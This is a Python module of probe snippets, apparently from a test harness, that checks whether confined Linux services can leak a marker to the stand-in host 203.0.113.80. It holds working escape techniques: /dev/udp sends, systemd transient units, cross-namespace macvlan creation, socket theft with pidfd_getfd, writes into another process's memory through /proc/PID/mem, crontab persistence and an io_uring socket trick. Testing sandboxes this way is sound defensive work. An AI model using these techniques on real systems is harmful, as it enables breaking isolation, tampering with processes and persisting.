"""What the services and the host run to try each channel: shell or Python, as they stand."""

WEB = "203.0.113.80"
UPLINK_RESOLVER = "198.51.100.1"

DATAGRAM = f"bash -c 'echo $MARK >/dev/udp/{WEB}/9'"
GETENT = "getent ahosts $NAME"

RESOLVED = "/run/systemd/resolve/io.systemd.Resolve"

VARLINK = """\
import json, os, socket

def ask(path):
    with socket.socket(socket.AF_UNIX) as resolved:
        resolved.settimeout(5)
        resolved.connect(path)
        asked = {"name": os.environ["NAME"], "family": 2, "flags": 0}
        call = {"method": "io.systemd.Resolve.ResolveHostname", "parameters": asked}
        resolved.sendall(json.dumps(call).encode() + b"\\0")
        print(resolved.recv(4096))

"""

# PID 1 has one server for all of its sockets.
TRANSIENT = f"""\
import json, os, socket
script = f"echo {{os.environ['MARK']}} >/dev/udp/{WEB}/9"
run = {{"path": "/bin/bash", "arguments": ["bash", "-c", script]}}
name = f"{{os.environ['UNIT']}}-out.service"
unit = {{"ID": name, "Service": {{"Type": "exec", "ExecStart": [run]}}}}
with socket.socket(socket.AF_UNIX) as systemd:
    systemd.settimeout(5)
    systemd.connect("/run/systemd/userdb/io.systemd.DynamicUser")
    call = {{"method": "io.systemd.Unit.StartTransient", "parameters": {{"context": unit}}}}
    systemd.sendall(json.dumps(call).encode() + b"\\0")
    print(systemd.recv(65536)[:200])
"""

# From 258 on, systemd listens for resolved, and a restart of the service alone keeps the socket.
RESTART_RESOLVED = """\
systemctl stop systemd-resolved.service
systemctl restart 'systemd-resolved*.socket' || true
systemctl start systemd-resolved.service
"""

AVAHI = """\
import os, socket
with socket.socket(socket.AF_UNIX) as avahi:
    avahi.settimeout(4)
    avahi.connect("/run/avahi-daemon/socket")
    avahi.sendall(f"RESOLVE-HOSTNAME-IPV4 {os.environ['MARK']}.local\\n".encode())
    print(avahi.recv(4096))
"""

DAEMON = """\
import os, socket
with socket.socket(socket.AF_UNIX) as daemon:
    daemon.settimeout(4)
    daemon.connect({path!r})
    daemon.sendall(os.environ["MARK"].encode())
    print(daemon.recv(16))
"""

LISTENER = f"""\
import os, socket
listener = socket.socket(fileno=3)
try:
    listener.shutdown(socket.SHUT_RDWR)
except OSError as error:
    print(error)
listener.connect(("{WEB}", 80))
listener.sendall(f"GET /{{os.environ['MARK']}} HTTP/1.0\\r\\n\\r\\n".encode())
print(listener.recv(4096))
"""

DATAGRAM_3 = f"""\
import os, socket
socket.socket(fileno=3).sendto(os.environ["MARK"].encode(), ("{WEB}", 9))
"""

SOCKET_UNIT = """\
[Socket]
{listen}=0.0.0.0:{{number}}
Service={{unit}}.service
"""

STORE = """\
import array, os, socket
if "LISTEN_FDS" not in os.environ:
    stored = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    descriptors = array.array("i", [stored.fileno()])
    notify.sendmsg(
        [b"FDSTORE=1\\nFDNAME=kept"],
        [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)],
        0,
        os.environ["NOTIFY_SOCKET"],
    )
    print("stored")
"""

# rtnetlink(7) by hand: ip(8) wants to see what it names.
ROUTE = """\
import os, socket, struct, subprocess
route = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)

def attribute(kind, value):
    data = struct.pack("=i", value) if isinstance(value, int) else value
    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)

def ask(kind, flags, message, *attributes):
    message += b"".join(attributes)
    route.send(struct.pack("=IHHII", 16 + len(message), kind, flags, 1, 0) + message)
    answer = route.recv(4096)
    print(kind, answer.hex())
    return answer

"""

# RTM_NEWNSID (88) gives the namespace of PID 1 a number in ours, RTM_GETNSID (90) tells which one
# it has, and RTM_NEWLINK (16) takes that for the place of the link below.
MACVLAN = (
    ROUTE
    + """\
ask(88, 5, bytes(4), attribute(1, 77), attribute(2, 1))
host = struct.unpack_from("=i", ask(90, 1, bytes(4), attribute(2, 1)), 24)[0]
name = "m" + os.environ["MARK"]
kind = attribute(1, b"macvlan") + attribute(2, attribute(1, 4))
for below in range(2, 12):
    place = attribute(5, below) + attribute(37, host)
    ask(16, 0x605, bytes(16), attribute(3, name.encode() + b"\\0"), place, attribute(18, kind))
    if os.path.exists(f"/proc/sys/net/ipv4/conf/{name}"):
        break
subprocess.run(["ip", "address", "add", "192.0.2.77/24", "broadcast", "+", "dev", name])
subprocess.run(["ip", "link", "set", name, "up"])
rule = "insert rule inet wgconfine output ip daddr 192.0.2.0/24 accept"
subprocess.run(["nft", *rule.split()])
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
sender.sendto(os.environ["MARK"].encode(), ("192.0.2.255", 9))
"""
)

# RTM_SETLINK (19) with the namespace of a process.
VETH = (
    ROUTE
    + """\
mark = os.environ["MARK"]
subprocess.run(["ip", "link", "add", f"i{mark}", "type", "veth", "peer", "name", f"o{mark}"])
message = struct.pack("=BxHiII", 0, 0, socket.if_nametoindex(f"o{mark}"), 0, 0)
ask(19, 5, message, attribute(19, 1))
"""
)

OTHERS = """
def others():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"time.sleep(9999)" in open(f"/proc/{pid}/cmdline", "rb").read():
                yield int(pid)
        except OSError as error:
            print(error)

"""
THROUGH_OTHERS = f"""{OTHERS}
for pid in others():
    try:
        ask(f"/proc/{{pid}}/root{RESOLVED}")
    except OSError as error:
        print(pid, error)
"""

NEIGHBOUR = """\
[Service]
Type=exec
User=neighbour
ExecStart=/usr/bin/python3 -c "import socket, time; \
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); time.sleep(9999)"
"""
NEIGHBOURS = "systemctl start leak-neighbour.service"

# Of root's, with no right that a confined root has not: as irqbalance and systemd-localed are.
HUMBLE = """\
[Service]
Type=exec
CapabilityBoundingSet=
ExecStart=/usr/bin/python3 -c "import time; time.sleep(9999)"
"""

STOLEN = f"""\
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
{OTHERS}
for pid in others():
    pidfd = libc.syscall(434, pid, 0)
    stolen = libc.syscall(438, pidfd, 3, 0)
    print(pid, pidfd, stolen, os.strerror(ctypes.get_errno()))
    if stolen >= 0:
        sender = socket.socket(fileno=stolen)
        sender.sendto(os.environ["MARK"].encode(), ("{WEB}", 9))
"""

# /proc/PID/mem of another process of the same user is written without ptrace(2) being called.
TALKER = f"""\
import ctypes, socket, time
said = ctypes.create_string_buffer(b"lab-neighbour" + b"." * 19)
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    sender.sendto(said.raw, ("{WEB}", 9))
    time.sleep(0.2)
"""
TALKS = """\
[Service]
Type=exec
User=neighbour
ExecStart=/usr/bin/python3 /srv/leaks/talker {unit}
"""
TALKERS = f"cat >/srv/leaks/talker <<'END'\n{TALKER}END\nsystemctl start $UNIT-talker.service"

MEMORY = """\
import os, re
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        arguments = open(f"/proc/{pid}/cmdline", "rb").read()
        if f"talker\\0{os.environ['UNIT']}\\0".encode() not in arguments:
            continue
        memory = open(f"/proc/{pid}/mem", "r+b", buffering=0)
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            if "rw" not in line.split()[1] or end - start > 1 << 24:
                continue
            memory.seek(start)
            for found in re.finditer(rb"lab-neighbour[.]{8}", memory.read(end - start)):
                memory.seek(start + found.end())
                memory.write(os.environ["MARK"].encode())
                print("written", pid)
    except OSError as error:
        print(error)
import time
time.sleep(1)
"""

MANAGER = """\
[Service]
User=neighbour
Delegate=yes
Environment=XDG_RUNTIME_DIR=/run/user/neighbour
ExecStartPre=+/usr/bin/install -d -o neighbour /run/user/neighbour
ExecStart=/usr/lib/systemd/systemd --user --unit=basic.target
"""
MANAGED = (
    "systemctl start leak-manager.service\n"
    "for i in {1..600}; do [ -e /run/user/neighbour/systemd/private ] && break; sleep 0.1; done"
)

# Each form's service adds its line to those that are there.
CRONTAB = f"""\
line="* * * * * bash -c 'echo $MARK >/dev/udp/{WEB}/9'"
( flock 9; (crontab -l; echo "$line") | crontab - ) 9>>/tmp/crontabs.lock
"""

MULTICAST = """\
import os, socket
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.sendto(os.environ["MARK"].encode(), ("224.0.0.251", 5353))
"""

# `# holds` in the first line of a probe: it waits for the host to look.
HOLD = """
listener.bind((socket.VMADDR_CID_ANY, int(os.environ["MARK"], 16)))
listener.listen()
print("listens")
import time
while not os.path.exists("/srv/leaks/end"):
    time.sleep(0.1)
"""
VSOCK = (
    "import os, socket  # holds\nlistener = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n"
    + HOLD
)

# io_uring_setup(2), one IORING_OP_SOCKET (5.19), io_uring_enter(2): no socket(2) for a filter.
URING = (
    """\
import ctypes, mmap, os, socket, struct  # holds
libc = ctypes.CDLL(None, use_errno=True)
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, parameters)
print("ring", ring, os.strerror(ctypes.get_errno()))
values = struct.unpack("=30I", parameters.raw)
sq_entries, cq_entries = values[0], values[1]
sq, cq = values[10:20], values[20:30]
size = max(sq[6] + 4 * sq_entries, cq[5] + 16 * cq_entries)
rings = mmap.mmap(ring, size, mmap.MAP_SHARED | mmap.MAP_POPULATE)
entries = mmap.mmap(ring, 64 * sq_entries, mmap.MAP_SHARED, offset=0x10000000)
family, kind = socket.AF_VSOCK, socket.SOCK_STREAM
entries[:64] = struct.pack("=BBHiQQIIQ24x", 45, 0, 0, family, kind, 0, 0, 0, 1)
rings[sq[6] : sq[6] + 4] = struct.pack("=I", 0)
rings[sq[1] : sq[1] + 4] = struct.pack("=I", 1)
print("enter", libc.syscall(426, ring, 1, 1, 1, None, 0), os.strerror(ctypes.get_errno()))
made = struct.unpack("=i", rings[cq[5] + 8 : cq[5] + 12])[0]
print("socket", made)
listener = socket.socket(fileno=made)
"""
    + HOLD
)

# Whose port it is already is in the host: the family knows one set of ports.
VSOCK_TRACE = """\
python3 - $MARKS <<'END'
import socket, sys
for mark in sys.argv[1:]:
    try:
        port = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        port.bind((socket.VMADDR_CID_ANY, int(mark, 16)))
    except OSError as error:
        print(mark, error)
END
"""
